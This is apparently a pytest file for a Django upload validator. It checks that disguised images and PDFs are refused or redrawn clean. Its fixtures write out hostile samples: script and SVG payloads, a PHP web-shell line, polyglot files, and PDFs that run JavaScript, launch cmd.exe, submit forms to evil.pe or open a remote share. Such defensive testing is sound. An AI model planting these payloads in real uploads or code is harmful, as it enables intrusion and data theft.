"""Files that are not what they seem: refused, or drawn anew so that nothing of them is left."""

import struct
import time
import zlib
from collections.abc import Callable, Iterator
from io import BytesIO
from pathlib import Path
from resource import RUSAGE_SELF, getrusage
from typing import Any

import pikepdf
import pytest
from django.urls import get_resolver
from PIL import Image

from apps.attachments.services.content import read_content
from apps.attachments.services.documents import read_document
from common.errors import Invalid
from common.pictures import open_picture, renditions
from tests.factories.attachments import encoded, gif_bytes, pdf_bytes
from tests.factories.color_profiles import wide_gamut

SCRIPT = b"<script>alert(document.domain)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width: int, height: int, rows: int = 0) -> bytes:
    """A PNG whose header asks for more pixels than it is worth."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\0" * ((width * 3 + 1) * rows), 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def png_with_text(text: bytes) -> bytes:
    whole = encoded("PNG")
    at = whole.index(b"IDAT") - 4
    return whole[:at] + _chunk(b"tEXt", b"Comment\0" + text) + whole[at:]


REFUSED: dict[str, Callable[[], bytes]] = {
    "svg": lambda: SVG,
    "svg with a declaration": lambda: b'<?xml version="1.0"?>' + SVG,
    "svg behind a byte order mark": lambda: b"\xef\xbb\xbf" + SVG,
    "svg compressed": lambda: b"\x1f\x8b\x08\0" + zlib.compress(SVG),
    "html": lambda: b"<!doctype html>" + SCRIPT,
    "html behind a JPEG's first bytes": lambda: b"\xff\xd8\xff\xe0\0\x10JFIF\0" + SCRIPT,
    "html behind a PNG's first bytes": lambda: b"\x89PNG\r\n\x1a\n" + SCRIPT,
    "html behind GIF89a": lambda: b"GIF89a" + SCRIPT,
    "html behind RIFF": lambda: b"RIFF\x20\0\0\0WEBP" + SCRIPT,
    "html behind an AVIF box": lambda: b"\0\0\0\x20ftypavif" + SCRIPT,
    "pdf": lambda: b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    "postscript": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\n(cmd) run",
    "zip": lambda: b"PK\x03\x04" + b"\0" * 100,
    "executable": lambda: b"MZ" + b"\0" * 400,
    "elf": lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 200,
    "php": lambda: b"<?php system($_GET['c']); ?>",
    "mvg": lambda: b"push graphic-context\nimage over 0,0 0,0 'https://a/'\npop graphic-context",
    "bmp": lambda: encoded("BMP"),
    "tiff": lambda: encoded("TIFF"),
    "ico": lambda: encoded("ICO"),
    "ppm": lambda: encoded("PPM"),
    "tga": lambda: encoded("TGA"),
    "jpeg 2000": lambda: encoded("JPEG2000"),
    "nothing": lambda: b"",
    "one byte": lambda: b"\x89",
    "zeroes": lambda: b"\0" * 10_000,
    "png cut in half": lambda: encoded("PNG", (400, 400))[:200],
    "jpeg cut in half": lambda: encoded("JPEG", (400, 400))[:300],
    "webp cut in half": lambda: encoded("WEBP", (400, 400))[:60],
    "png of 81 megapixels": lambda: png_claiming(9000, 9000, rows=40),
    "png of 144 megapixels": lambda: png_claiming(12000, 12000, rows=40),
    "png one pixel too wide": lambda: png_claiming(8001, 10, rows=10),
    "png of two milliards": lambda: png_claiming(2**31 - 1, 1),
    "png of no pixels": lambda: png_claiming(0, 0),
    "eleven megabytes": lambda: encoded("PNG") + b"\0" * (11 * 2**20),
}

REDRAWN: dict[str, Callable[[], bytes]] = {
    "png with a script in its text": lambda: png_with_text(SCRIPT),
    "png with a script behind it": lambda: encoded("PNG") + SCRIPT,
    "jpeg with a page behind it": lambda: encoded("JPEG") + b"<html>" + SCRIPT,
    "jpeg with a script as its comment": lambda: encoded("JPEG", comment=SCRIPT),
    "gif with a script behind it": lambda: encoded("GIF") + SCRIPT,
    "gif that is a script": lambda: encoded("GIF", comment=b"*/=1;" + SCRIPT),
    "webp with metadata": lambda: encoded("WEBP", xmp=SCRIPT),
    "png that is a zip": lambda: encoded("PNG") + b"PK\x03\x04" + SCRIPT,
    "png that ends early": lambda: png_claiming(500, 500, rows=2),
    "moving gif": lambda: gif_bytes(40),
    "avif": lambda: encoded("AVIF"),
    "png of grey and alpha": lambda: encoded("PNG", mode="LA"),
    "jpeg for the press": lambda: encoded("JPEG", mode="CMYK"),
}


@pytest.fixture(scope="module")
def _routes() -> None:
    """Read before the clock runs: that takes most of a second, once in a process."""
    assert get_resolver().url_patterns


@pytest.fixture(autouse=True)
def _quick_and_small(_routes: None) -> Iterator[None]:
    """In seconds of our own work: a busy machine is not slow code."""
    started, before = time.process_time(), getrusage(RUSAGE_SELF).ru_maxrss
    yield
    assert time.process_time() - started < 1
    assert getrusage(RUSAGE_SELF).ru_maxrss - before < 100_000


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_refused(name: str) -> None:
    with pytest.raises(Invalid):
        open_picture(BytesIO(REFUSED[name]()))


@pytest.mark.parametrize("name", sorted(REDRAWN))
def test_drawn_anew(name: str) -> None:
    picture = open_picture(BytesIO(REDRAWN[name]()))

    for rendition in renditions(picture):
        assert b"script" not in rendition.content
        assert b"PK\x03\x04" not in rendition.content
        with Image.open(BytesIO(rendition.content)) as image:
            assert image.format == {"jpg": "JPEG", "webp": "WEBP"}[rendition.format]
            assert getattr(image, "n_frames", 1) == 1


@pytest.mark.parametrize("form", ["GIF", "WEBP", "PNG", "AVIF"])
@pytest.mark.parametrize("frames", [1, 3])
def test_animation_is_reported(form: str, frames: int) -> None:
    buffer = BytesIO()
    first, *others = [Image.new("RGB", (40, 30), (60 * number, 0, 0)) for number in range(frames)]
    first.save(buffer, form, save_all=True, append_images=others)
    buffer.seek(0)
    assert open_picture(buffer).is_animated is (frames > 1)


def test_a_second_frame_that_is_damaged_is_none() -> None:
    whole = gif_bytes(2)
    second = whole.rindex(b"\x2c\0\0\0\0\x2c\x01")
    assert not open_picture(BytesIO(whole[: second + 5])).is_animated


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "rule"),
    [
        ("svg", "picture_type"),
        ("html behind GIF89a", "picture_unreadable"),
        ("png of 144 megapixels", "picture_pixels"),
    ],
)
def test_refusal_names_the_field_and_keeps_nothing(
    api: Any, name: str, rule: str, tmp_path: Path, settings: Any
) -> None:
    options = {"location": tmp_path, "base_url": "/media/"}
    backend = {"BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": options}
    settings.STORAGES = {**settings.STORAGES, "default": backend}

    refused = api(as_="owner").upload("attachment/file", {"file": BytesIO(REFUSED[name]())})

    assert refused.status_code == 422
    assert refused.json()["params"]["file"][0]["rule"] == rule
    assert list(tmp_path.iterdir()) == []


def colors_of(content: bytes) -> tuple[int, ...]:
    """The colour that a picture of one colour is shown in."""
    result = next(one for one in renditions(open_picture(BytesIO(content))) if one.format == "jpg")
    with Image.open(BytesIO(result.content)) as image:
        assert "icc_profile" not in image.info
        return image.getpixel((5, 5))  # type: ignore[return-value]


@pytest.mark.parametrize("form", ["PNG", "JPEG", "WEBP"])
def test_colors_of_a_wide_profile_are_turned_into_those_of_the_web(form: str) -> None:
    """The same numbers are a stronger red in a wide profile, and a middle grey in both."""
    plain, wide = (
        encoded(form, color=(180, 60, 60)),
        encoded(form, color=(180, 60, 60), icc_profile=wide_gamut()),
    )
    gray = colors_of(encoded(form, color=(128, 128, 128), icc_profile=wide_gamut()))

    red, green, blue = (new - old for new, old in zip(colors_of(wide), colors_of(plain), strict=True))

    assert 12 <= red <= 20
    assert green <= -5
    assert blue <= -2
    assert all(abs(value - 128) <= 4 for value in gray)


@pytest.mark.parametrize("profile", [b"", b"no profile", b"\0" * 3000, wide_gamut()[:200]])
def test_profile_that_cannot_be_read_is_passed_by(profile: bytes) -> None:
    assert colors_of(encoded("PNG", color=(180, 60, 60), icc_profile=profile)) == colors_of(
        encoded("PNG", color=(180, 60, 60))
    )


def test_see_through_parts_stay_see_through_in_a_wide_profile() -> None:
    picture = open_picture(
        BytesIO(encoded("PNG", mode="RGBA", color=(180, 60, 60, 77), icc_profile=wide_gamut()))
    )

    assert picture.image.getpixel((0, 0))[3] == 77  # type: ignore[index]


def packed_pdf(action: bytes) -> bytes:
    """A page whose objects are in a compressed stream, as tools have written them since 2003."""
    objects = [b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>"]
    objects += [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>", action]
    starts = [sum(len(one) + 1 for one in objects[:place]) for place in range(len(objects))]
    head = b"".join(b"%d %d " % (number + 1, start) for number, start in enumerate(starts))
    body = zlib.compress(head + b" ".join(objects))
    packed = b"5 0 obj<</Type/ObjStm/N 4/First %d/Filter/FlateDecode/Length %d>>stream\n" % (
        len(head),
        len(body),
    )
    content = b"%PDF-1.5\n" + packed + body + b"\nendstream endobj\n"
    rows = bytes(7) + b"".join(struct.pack(">BIH", 2, 5, place) for place in range(4))
    rows += struct.pack(">BIH", 1, len(b"%PDF-1.5\n"), 0) + struct.pack(">BIH", 1, len(content), 0)
    table = b"6 0 obj<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % len(rows)
    return content + table + rows + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % len(content)


def locked_pdf(user: str = "secret") -> bytes:
    written = BytesIO()
    with pikepdf.open(BytesIO(pdf_bytes())) as document:
        document.save(written, encryption=pikepdf.Encryption(owner="owner", user=user))
    return written.getvalue()


DOCUMENTS_REFUSED: dict[str, Callable[[], bytes]] = {
    "pdf that is cut off": lambda: pdf_bytes()[:60],
    "pdf with a page behind it": lambda: pdf_bytes() + b"<html>" + SCRIPT,
    "pdf that is a zip": lambda: pdf_bytes() + b"PK\x03\x04" + b"\0" * 40,
    "pdf behind a page": lambda: b"<html>" + SCRIPT + pdf_bytes(),
    "pdf with a script": lambda: pdf_bytes(b"4 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n"),
    "pdf that starts a program": lambda: pdf_bytes(b"4 0 obj<</S/Launch/F(cmd.exe)>>endobj\n"),
    "pdf with a file in it": lambda: pdf_bytes(b"4 0 obj<</Type/EmbeddedFile>>endobj\n"),
    "pdf with an escaped script": lambda: pdf_bytes(b"4 0 obj<</S/J#61vaScript/JS(x)>>endobj\n"),
    "pdf with an escaped program": lambda: pdf_bytes(b"4 0 obj<</S/L#61unch/F(cmd.exe)>>endobj\n"),
    "pdf that sends a form": lambda: pdf_bytes(b"4 0 obj<</S/SubmitForm/F(https://evil.pe)>>endobj\n"),
    "pdf that opens a share": lambda: pdf_bytes(b"4 0 obj<</S/GoToR/F(\\\\\\\\evil\\\\x)>>endobj\n"),
    "pdf with a packed script": lambda: packed_pdf(b"<</S/JavaScript/JS(x)>>"),
    "pdf with a packed, escaped script": lambda: packed_pdf(b"<</S/Java#53cript/JS(x)>>"),
    "pdf that unpacks into much": lambda: packed_pdf(b"[" + b"1 " * (4 * 2**20) + b"]"),
    "pdf that needs a password": locked_pdf,
    "page in the clothes of a pdf": lambda: b"%PDF-1.4<html>" + SCRIPT + b"startxref 0 %%EOF",
    "page in the clothes of a pdf, with a line": lambda: b"%PDF-1.4\n<html>" + SCRIPT + b"startxref 0 %%EOF",
    "pdf of no version": lambda: pdf_bytes().replace(b"%PDF-1.7", b"%PDF-abc"),
    "pdf of ten megabytes and more": lambda: pdf_bytes(b"%" * (10 * 2**20) + b"\n"),
    "word document": lambda: b"PK\x03\x04[Content_Types].xml",
}


@pytest.mark.parametrize("name", sorted(DOCUMENTS_REFUSED))
def test_document_refused(name: str) -> None:
    with pytest.raises(Invalid):
        read_content(BytesIO(DOCUMENTS_REFUSED[name]()))


DOCUMENTS_TAKEN: dict[str, Callable[[], bytes]] = {
    "of nested lists": lambda: pdf_bytes(b"4 0 obj" + b"[" * 2**20 + b"endobj\n"),
    "plain": pdf_bytes,
    "packed": lambda: packed_pdf(b"<</S/URI/URI(https://barro.pe/JavaScript)>>"),
    "closed to changes alone": lambda: locked_pdf(user=""),
    "with a text about scripts": lambda: pdf_bytes(b"4 0 obj<</Title(On \\(/Java\\) Script)>>endobj\n"),
}


@pytest.mark.parametrize("name", sorted(DOCUMENTS_TAKEN))
def test_document_taken_as_it_came(name: str) -> None:
    content = DOCUMENTS_TAKEN[name]()

    assert read_document(BytesIO(content)) == content
